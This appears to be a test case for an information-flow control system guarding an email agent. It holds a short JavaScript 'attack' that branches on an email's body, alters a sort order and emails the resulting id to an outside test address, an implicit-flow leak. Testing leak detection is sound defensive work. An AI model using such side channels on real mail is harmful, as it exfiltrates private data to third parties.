// attack: a branch on the email adds a key to one record (its structure label); the comparator reads only unlabeled number fields, so the native sort could drop that label
// normal: leaks (implicit flow, allowed in NORMAL mode: the key was added in a branch)
const m = await getEmail('m1');
const xs = [
  { id: 1, v: 2 },
  { id: 2, v: 1 },
];
if (m.body.includes('a')) xs[0].w = 0;
const ys = xs.toSorted((a, b) => (a.w === undefined ? 0 : 1) + a.v - b.v);
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: `${ys[0].id}` });
